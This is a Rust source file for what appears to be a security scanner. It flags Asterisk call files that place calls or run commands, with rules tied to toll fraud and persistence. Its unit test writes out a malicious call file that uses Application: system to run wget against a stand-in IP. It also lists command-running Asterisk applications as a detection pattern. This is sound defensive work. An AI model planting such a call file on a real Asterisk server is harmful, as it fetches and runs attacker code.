//! Call files: what lies in Asterisk's outgoing folder is dialled at once or at its time (`pbx_spool.c`).

use super::super::super::{Indicators, Report};
use super::super::rule::{Rule, attribute};
use super::weigh_command;
use crate::model::{Category, Severity};
use crate::sweep::Swept;

const CALL: Rule = Rule {
    id: "TR-AST-0040",
    title: "Call file that places a call",
    category: Category::TollFraud,
    severity: Severity::Low,
    confidence: 40,
    attack: &["T1496"],
    source: "Asterisk documentation, call files; Sangoma's indicators for CVE-2025-57819",
    remedy: "quarantine_file",
};

const COMMAND: Rule = Rule {
    id: "TR-AST-0041",
    title: "Call file that runs a command",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 85,
    attack: &["T1059.004", "T1546"],
    source: "SANS ISC diary 32892, 2026-04-13; Asterisk documentation, call files",
    remedy: "quarantine_file",
};

pub(super) const RULES: &[Rule] = &[CALL, COMMAND];

/// Judges a file of the outgoing folder. Wake-up calls make some too, so a call alone is a weak sign.
pub(in super::super) fn inspect(file: &Swept<'_>, content: &[u8], indicators: &Indicators, report: &mut Report) {
    let (mut channel, mut extension, mut application, mut data) = (None, None, None, None);
    for line in content.split(|&b| b == b'\n').take(1000) {
        let Some(at) = line.iter().position(|&b| b == b':') else { continue };
        let (name, value) = line.split_at_checked(at).unwrap_or((line, b""));
        let value = value.get(1..).unwrap_or_default().trim_ascii();
        match name.trim_ascii().to_ascii_lowercase().as_slice() {
            b"channel" => channel = Some(value),
            b"extension" => extension = Some(value),
            b"application" => application = Some(value),
            b"data" => data = Some(value),
            _ => {}
        }
    }
    let Some(channel) = channel else { return };
    let runs = application.is_some_and(|name| {
        [&b"system"[..], b"trysystem", b"agi", b"eagi", b"externalivr"].contains(&name.to_ascii_lowercase().as_slice())
    });
    let mut evidence = vec![attribute("channel", channel)];
    evidence.extend(extension.map(|extension| attribute("extension", extension)));
    if runs {
        let command = data.unwrap_or_default();
        evidence.push(attribute("command", command));
        let sure = weigh_command(command, indicators)
            .map_or(COMMAND.confidence, |(_, confidence, _)| confidence.max(COMMAND.confidence));
        report.findings.push(COMMAND.weighed(Severity::High, sure).at_file(file, evidence));
        return;
    }
    let is_known = extension == Some(b"9998") || channel.to_ascii_lowercase().starts_with(b"local/9998@");
    let rule = if is_known { CALL.weighed(Severity::High, 80) } else { CALL };
    report.findings.push(rule.at_file(file, evidence));
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::super::super::super::testing::{Scene, ids};

    #[test]
    fn a_command_is_told_from_a_call() {
        let found = |text: &str| ids(&Scene::new().file("/var/spool/asterisk/outgoing/x.call", text).findings());
        assert_eq!(
            found("Channel: Local/DONTCALL@macro-dial\nApplication: system\nData: wget http://192.0.2.1/k\n"),
            ["TR-AST-0041 high"]
        );
        assert_eq!(found("Channel: Local/9998@from-internal\nApplication: wait\n"), ["TR-AST-0040 high"]);
        assert_eq!(found("Channel: Local/*68@x\nExtension: 100\nContext: y\n"), ["TR-AST-0040 low"]);
        assert!(found("no call\n").is_empty());
    }
}
